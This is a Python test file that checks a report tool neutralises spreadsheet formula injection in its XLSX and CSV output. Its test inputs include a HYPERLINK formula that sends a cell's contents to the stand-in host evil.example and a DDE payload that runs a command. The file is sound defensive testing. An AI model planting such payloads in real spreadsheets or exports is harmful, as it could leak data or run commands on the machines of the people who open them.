"""Issue 19: data is text in the tables too. A text starting with =, +, -, @ (or a tab or carriage
return, OWASP's list) is stored as text in the XLSX workbooks, never as a live formula, and is
neutralised in the CSV files with a leading single quote."""

from __future__ import annotations

import csv
import io
import zipfile

import yaml

import rbtools
from coopdocs.compute.spreadsheets import neutralise, to_csv_text, to_xlsx_bytes
from coopdocs.compute.tables import Frame
from coopdocs.workflow.commands import prepare_args
from support import cli

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
]


def _sheet(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("xl/worksheets/sheet1.xml").decode("utf-8")


def test_text_is_text_in_a_workbook():
    import openpyxl

    frame = Frame(["text", "number"], [{"text": t, "number": -5} for t in HOSTILE])
    data = to_xlsx_bytes(frame, "=title", 0)
    assert "<f>" not in _sheet(data) and "<f " not in _sheet(data), "a live formula in the workbook"
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    texts = [row[0].value for row in sheet.iter_rows(min_row=3)]
    assert texts == HOSTILE
    assert all(row[0].data_type == "s" for row in sheet.iter_rows(min_row=3))
    assert [row[1].value for row in sheet.iter_rows(min_row=3)] == [-5] * len(
        HOSTILE
    )  # numbers stay numbers


def test_formula_triggers_are_neutralised_in_csv():
    frame = Frame(
        ["text", "number"],
        [{"text": t, "number": -5} for t in HOSTILE] + [{"text": "a=b", "number": 1.0}],
    )
    rows = list(csv.reader(io.StringIO(to_csv_text(frame), newline="")))[1:]
    assert [r[0] for r in rows] == ["'" + t for t in HOSTILE] + ["a=b"]
    assert [r[1] for r in rows] == ["-5"] * len(HOSTILE) + ["1"]
    assert neutralise("plain") == "plain" and neutralise("") == ""
    assert neutralise("\r=1+1") == "'\r=1+1" and neutralise("\t@x") == "'\t@x"


def test_hostile_titles_in_the_data_reach_the_tables_as_text(tmp_path):
    project = rbtools.copy_project(tmp_path / "p")
    path = project / "data" / "projects.csv"
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    header = list(rows[0])
    titles = [
        '=HYPERLINK("http://evil.example","Click")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
    ]
    # Projects under way or completed: the tables count no planned project (issue 28), so a
    # planned one's title would be in no table.
    shown = [row for row in rows if row.get("status", "actual") in ("", "actual")]
    for row, title in zip(shown, titles):
        row["title"] = title
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=header, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8")
    cfg = yaml.safe_load((project / "config" / "config.yaml").read_text(encoding="utf-8"))
    with rbtools._cwd(project):
        cli.check(*prepare_args(cfg, rbtools.EPOCH))
        cli.check(
            "tables",
            "--bundle",
            "build/data/bundle.json",
            "--tables-dir",
            "reports/tables",
            "--figures-dir",
            "reports/figures",
            "--context",
            "build/context/tables/comparative-tables.json",
            "--bib",
            "build/context/tables/comparative-tables.bib.json",
            "--config",
            "config/config.yaml",
            "--strings",
            f"{cfg['templates_dir']}/strings.yaml",
            "--epoch",
            str(rbtools.EPOCH),
            "--cache-dir",
            "build/cache/tables",
        )
    seen_xlsx, seen_csv, quoted = set(), set(), set()
    for workbook in sorted((project / "reports" / "tables").glob("*.xlsx")):
        sheet = _sheet(workbook.read_bytes())
        assert "<f>" not in sheet and "<f " not in sheet, f"a live formula in {workbook.name}"
        seen_xlsx |= {t for t in titles if t.replace("&", "&amp;") in sheet}
    for table in sorted((project / "reports" / "tables").glob("*.csv")):
        with table.open(encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (
                        f"{table.name}: {cell!r}"
                    )
                    seen_csv |= {t for t in titles if t in cell}
                    quoted |= {t for t in titles if cell == "'" + t}
    # Every title is in the tables, as typed; those alone in a CSV cell have a single quote in front.
    assert seen_xlsx == set(titles) and seen_csv == set(titles)
    assert quoted, "no title alone in a CSV cell"
